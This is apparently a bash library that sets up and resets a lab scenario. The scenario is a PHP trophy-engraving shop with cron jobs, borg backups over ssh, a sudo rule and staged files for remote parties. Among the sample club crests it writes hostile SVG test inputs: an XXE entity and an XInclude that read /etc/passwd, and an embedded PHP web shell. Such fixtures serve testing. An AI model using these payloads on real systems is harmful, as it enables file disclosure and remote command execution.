# shellcheck shell=bash
# The PHP shop's trophies and club engraving day (scenario benign-shop-trophy):
# functions sourced by the scenario script, root side, idempotent.
# The shop of setup (/var/www/html, www-data) plus benign-shop-trophy/www/:
# club crests as SVG (engrave.php: filtered, then rsvg-convert by proc_open
# argv into engrave/previews/), click & collect QR codes (pickup.php: sh -c
# qrencode into qr/), clubs' invoice accounts checked by WHOIS (club-account.php:
# sh -c whois -h 127.0.0.1 -p 4343, then mail()), the back office's delivery
# to the tax adviser (admin/accountant.php: 7z AES zip in a /tmp scratch
# folder, lftp put to the adviser's FTP); www-data's crontab (the blanks
# supplier's FTP mirrored by lftp into img/supplier/, its stock list imported);
# root's /etc/cron.d/shop-trophy (borg over ssh to the backup provider's
# account, labremote with a forced borg serve; repository initialised before
# the window); deploy's sudo rule for the search reindex as www-data; the
# shop's mail relay settings in /etc/shop-trophy/relay.ini. Debian's
# librsvg2-bin, qrencode, whois, p7zip-full, lftp, borgbackup, swaks, nmap
# and python3-pyftpdlib are installed for the run and purged after (every
# package the install added is listed in /var/lib/lab/shoptrophy-pkgs).
# /etc/bash.bashrc is kept in /var/lib/lab/shoptrophy-bash.bashrc and put
# back by the reset.
#   shoptrophy_install DIR     packages, files, keys, the borg repository; DIR: the remote parties' files
#   shoptrophy_install_cron    the jobs (www-data's crontab, /etc/cron.d/shop-trophy)
#   shoptrophy_reset           everything the install and the run added (packages purged)

SHOPTROPHY=$LAB_DIR/lib/benign-shop-trophy
SHOPTROPHY_PKGS=(librsvg2-bin qrencode whois p7zip-full lftp borgbackup swaks nmap python3-pyftpdlib)
SHOPTROPHY_KEYS=/var/lib/lab/keys

shoptrophy_install() {
  local d=$1 p missing=() before i
  for p in "${SHOPTROPHY_PKGS[@]}"; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'install ok installed' || missing+=("$p")
  done
  if [ ${#missing[@]} -gt 0 ]; then
    log "installing for the run: ${missing[*]}"
    before=$(dpkg-query -W -f='${db:Status-Abbrev} ${Package}\n' | awk '$1 == "ii" {print $2}' | sort)
    DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends -o DPkg::Lock::Timeout=300 \
      "${missing[@]}" > /dev/null
    comm -13 <(printf '%s\n' "$before") \
      <(dpkg-query -W -f='${db:Status-Abbrev} ${Package}\n' | awk '$1 == "ii" {print $2}' | sort) >> /var/lib/lab/shoptrophy-pkgs
  fi
  touch /var/lib/lab/shoptrophy-stamp
  [ -e /var/lib/lab/shoptrophy-bash.bashrc ] || cp -p /etc/bash.bashrc /var/lib/lab/shoptrophy-bash.bashrc
  # alice's shell history (her interactive session writes it)
  if [ -e /home/alice/.bash_history ]; then cp -p /home/alice/.bash_history /var/lib/lab/shoptrophy-alice-history
  else touch /var/lib/lab/shoptrophy-alice-nohistory; fi
  # the pages, the data folder outside the web root
  cp -r "$SHOPTROPHY/www/." "$WEBROOT/"
  install -d "$WEBROOT/engrave/previews" "$WEBROOT/qr" "$WEBROOT/img/supplier" "$WEBROOT/search"
  printf '{}\n' > "$WEBROOT/search/index.json"
  chown -R www-data:www-data "$WEBROOT"
  install -d -o www-data -g www-data -m 750 /var/lib/shop-trophy /var/lib/shop-trophy/crests \
    /var/lib/shop-trophy/invoices /var/lib/shop-trophy/invoices/2026-11 /var/lib/shop-trophy/credit-notes /var/lib/shop-trophy/credit-notes/2026-11
  install -d -o root -g root -m 700 /var/lib/shop-trophy/pci
  for i in $(seq 1 14); do
    gs -q -dSAFER -dBATCH -dNOPAUSE -sDEVICE=pdfwrite -sOutputFile="/var/lib/shop-trophy/invoices/2026-11/RE-2026-11-$(printf %04d $((311 + i * 7))).pdf" \
      -c "/Helvetica findfont 14 scalefont setfont 60 760 moveto (Pokal & Gravur Lab Shop - Rechnung RE-2026-11-$(printf %04d $((311 + i * 7)))) show 60 720 moveto (Betrag: $((40 + i * 13)),90 EUR) show showpage" > /dev/null 2>&1
  done
  for i in 1 2 3; do
    gs -q -dSAFER -dBATCH -dNOPAUSE -sDEVICE=pdfwrite -sOutputFile="/var/lib/shop-trophy/credit-notes/2026-11/GS-2026-11-00$i.pdf" \
      -c "/Helvetica findfont 14 scalefont setfont 60 760 moveto (Gutschrift GS-2026-11-00$i) show showpage" > /dev/null 2>&1
  done
  chown -R www-data:www-data /var/lib/shop-trophy/invoices /var/lib/shop-trophy/credit-notes
  install -d -m 755 /var/log/shop-trophy /usr/local/lib/shop-trophy /etc/shop-trophy
  install -o www-data -g www-data -m 644 /dev/null /var/log/shop-trophy/supplier-sync.log
  install -m 755 "$SHOPTROPHY/bin/supplier-sync" /usr/local/lib/shop-trophy/supplier-sync
  install -m 644 "$SHOPTROPHY/bin/supplier-import.php" /usr/local/lib/shop-trophy/supplier-import.php
  install -m 644 "$SHOPTROPHY/bin/reindex.php" /usr/local/lib/shop-trophy/reindex.php
  install -o root -g www-data -m 640 "$SHOPTROPHY/bin/supplier.env" /etc/shop-trophy/supplier.env
  install -o root -g www-data -m 640 "$SHOPTROPHY/bin/relay.ini" /etc/shop-trophy/relay.ini
  install -m 755 "$SHOPTROPHY/bin/shop-borg-backup" /usr/local/sbin/shop-borg-backup
  install -m 440 "$SHOPTROPHY/bin/sudoers-deploy" /etc/sudoers.d/shop-trophy-deploy
  visudo -cf /etc/sudoers.d/shop-trophy-deploy > /dev/null || die "sudoers drop-in invalid"
  # borg: key, passphrase, the backup host's key, the repository (initialised now)
  [ -e "$SHOPTROPHY_KEYS/shoptrophy_borg" ] || ssh-keygen -q -t ed25519 -N '' -C shoptrophy-borg -f "$SHOPTROPHY_KEYS/shoptrophy_borg"
  install -m 600 "$SHOPTROPHY_KEYS/shoptrophy_borg" /etc/shop-trophy/borg_ed25519
  install -m 600 "$SHOPTROPHY/bin/borg.env" /etc/shop-trophy/borg.env
  printf 'trophy-borg-lab-only-52e1\n' > /etc/shop-trophy/borg.pass; chmod 600 /etc/shop-trophy/borg.pass
  printf '127.0.0.1 %s\n' "$(cut -d' ' -f1,2 /etc/ssh/ssh_host_ed25519_key.pub)" > /etc/shop-trophy/known_hosts
  if [ ! -e /home/labremote/.ssh/authorized_keys ]; then
    install -o labremote -g labremote -m 600 /dev/null /home/labremote/.ssh/authorized_keys
  fi
  grep -q 'backup@shoptrophy' /home/labremote/.ssh/authorized_keys || \
    printf 'command="borg serve --restrict-to-path /home/labremote/borg-trophy",restrict,from="127.0.0.1" %s\n' \
    "$(cut -d' ' -f1,2 "$SHOPTROPHY_KEYS/shoptrophy_borg.pub") backup@shoptrophy" >> /home/labremote/.ssh/authorized_keys
  rm -rf /home/labremote/borg-trophy /var/lib/shop-trophy-borg
  install -d -m 700 /var/lib/shop-trophy-borg
  (set -a; . /etc/shop-trophy/borg.env; set +a; borg init --encryption=repokey-blake2 > /dev/null 2>&1) || die "borg init failed"
  # the remote parties' files: crests, the supplier's and the adviser's FTP
  # folders, alice's laptop (the vendor's hotfix, the SIEM snippet)
  install -d -o labremote -g labremote "$d" "$d/crests" "$d/supplier" "$d/supplier/outgoing" "$d/supplier/outgoing/images" \
    "$d/supplier/staged" "$d/accountant" "$d/accountant/inbox" "$d/alice"
  local clubs=('TSV Nordheim 1898' 'SC Blau-Weiss Kiel' 'Kegelfreunde Lahr' 'Schuetzenverein Eichenau' 'Dartclub Ochsen' 'FC Hafenkicker' 'Ruderclub Muehlental')
  local colors=('#1d4e89' '#0b6e4f' '#8c1c13' '#2f4858' '#c17c00' '#1b998b' '#6a4c93')
  for i in 0 1 2 3 4 5 6; do
    printf '<?xml version="1.0" encoding="UTF-8"?>\n<!-- crest for engraving, exported from Inkscape -->\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="460" viewBox="0 0 400 460">\n  <path d="M20 20 H380 V240 C380 360 200 440 200 440 C200 440 20 360 20 240 Z" fill="%s" stroke="#222" stroke-width="8"/>\n  <circle cx="200" cy="190" r="70" fill="#fff"/>\n  <text x="200" y="330" font-family="DejaVu Sans" font-size="30" fill="#fff" text-anchor="middle">%s</text>\n</svg>\n' \
      "${colors[$i]}" "${clubs[$i]}" > "$d/crests/crest-$i.svg"
  done
  printf '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">&xxe;</text></svg>\n' > "$d/crests/xxe.svg"
  printf '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href=".?../../../../../../etc/passwd" parse="text"/></svg>\n' > "$d/crests/xinclude.svg"
  printf '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">\n<?php system($_GET["c"]); ?>\n<rect width="100" height="100"\n' > "$d/crests/logo.svg"
  for i in CUP-GOLD-30 CUP-SILVER-25 PLATE-WALNUT MEDAL-50 SHIELD-OAK FIG-FOOTBALL; do
    gs -q -dSAFER -dBATCH -dNOPAUSE -sDEVICE=jpeg -g600x600 -r72 -sOutputFile="$d/supplier/outgoing/images/$i.jpg" \
      -c "0.95 0.9 0.75 setrgbcolor 0 0 600 600 rectfill 0 0 0 setrgbcolor /Helvetica findfont 36 scalefont setfont 60 300 moveto ($i) show showpage" > /dev/null 2>&1
  done
  for i in MEDAL-70-NEW GLASS-STAR-NEW FIG-DARTS-NEW; do
    gs -q -dSAFER -dBATCH -dNOPAUSE -sDEVICE=jpeg -g600x600 -r72 -sOutputFile="$d/supplier/staged/$i.jpg" \
      -c "0.8 0.9 0.95 setrgbcolor 0 0 600 600 rectfill 0 0 0 setrgbcolor /Helvetica findfont 36 scalefont setfont 60 300 moveto ($i) show showpage" > /dev/null 2>&1
  done
  printf 'sku;name;stock;lead_days\nCUP-GOLD-30;Pokal gold 30 cm;140;3\nCUP-SILVER-25;Pokal silber 25 cm;96;3\nPLATE-WALNUT;Ehrenplakette Nussbaum;41;5\nMEDAL-50;Medaille 50 mm;2300;2\nSHIELD-OAK;Wappenschild Eiche;18;7\nFIG-FOOTBALL;Figur Fussball;210;3\n' \
    > "$d/supplier/outgoing/blanks-stock.csv"
  cp "$SHOPTROPHY/remote/SEC-2026-12-contact-csrf.diff" "$SHOPTROPHY/remote/bash-audit.bashrc" "$d/alice/"
  cp "$SHOPTROPHY/remote/whois.data" "$d/whois.data"
  $PY -c 'import base64, json
sig = "308006092a864886f70d010702a0803080020101310f300d06096086480165030402010500308006092a864886f70d0107010000a080308203e3" * 5
d = {"pspId": "7C3E0B1A9F2D4E6B8A1C5D3F0E2B4A6C8D0F1E3A5B7C9D1F3E5A7B9C1D3E5F7A", "version": 1, "createdOn": 1796544000000, "signature": sig}
print(base64.b64encode(json.dumps(d).encode()).decode())' > "$d/alice/applepay-association.b64"
  chown -R labremote:labremote "$d"
}

# shoptrophy_install_cron: the jobs; installed a few seconds before the window
# opens, so that cron first runs them inside it
shoptrophy_install_cron() {
  install -m 644 "$SHOPTROPHY/bin/cron.d-shop-trophy" /etc/cron.d/shop-trophy
  crontab -u www-data "$SHOPTROPHY/bin/www-data.crontab"
}

shoptrophy_reset() {
  local p f
  rm -f /etc/cron.d/shop-trophy
  crontab -u www-data -r 2>/dev/null || true
  sleep 2
  kill_leftover 0 'shop-borg-backup|borg (create|prune|list|extract)|nmap '
  kill_leftover 33 'supplier-sync|lftp |reindex\.php'
  kill_leftover 2003 'tmux|reindex\.php'
  rm -f /etc/sudoers.d/shop-trophy-deploy
  rm -rf /etc/shop-trophy /var/lib/shop-trophy /var/log/shop-trophy /usr/local/lib/shop-trophy /var/lib/shop-trophy-borg \
    /home/labremote/borg-trophy /tmp/tmux-2003 /tmp/SEC-2026-12-contact-csrf.diff /tmp/bash-audit.bashrc
  rm -f /usr/local/sbin/shop-borg-backup /run/shop-borg.lock /tmp/reindex-2026*.log /etc/bash.bashrc.20261207
  rm -rf /tmp/restore-?????? /tmp/acct-??????
  if [ -e /var/lib/lab/shoptrophy-bash.bashrc ]; then
    cat /var/lib/lab/shoptrophy-bash.bashrc > /etc/bash.bashrc
    rm -f /var/lib/lab/shoptrophy-bash.bashrc
  fi
  if [ -e /var/lib/lab/shoptrophy-alice-history ]; then
    cp -p /var/lib/lab/shoptrophy-alice-history /home/alice/.bash_history; rm -f /var/lib/lab/shoptrophy-alice-history
  elif [ -e /var/lib/lab/shoptrophy-alice-nohistory ]; then
    rm -f /home/alice/.bash_history /var/lib/lab/shoptrophy-alice-nohistory
  fi
  if [ -e /var/lib/lab/shoptrophy-stamp ]; then
    find /var/lib/php/sessions -name 'sess_*' -newer /var/lib/lab/shoptrophy-stamp -delete 2>/dev/null || true
    rm -f /var/lib/lab/shoptrophy-stamp
  fi
  f=/home/labremote/.ssh/authorized_keys
  if [ -e "$f" ]; then
    grep -v 'backup@shoptrophy' "$f" > "$f.new" || true
    cat "$f.new" > "$f"; rm -f "$f.new"
  fi
  if [ -s /var/lib/lab/shoptrophy-pkgs ]; then
    mapfile -t p < /var/lib/lab/shoptrophy-pkgs
    log "purging what the run installed: ${p[*]}"
    DEBIAN_FRONTEND=noninteractive apt-get purge -y -q -o DPkg::Lock::Timeout=300 "${p[@]}" > /dev/null 2>&1 || true
    rm -f /var/lib/lab/shoptrophy-pkgs
  fi
  return 0
}
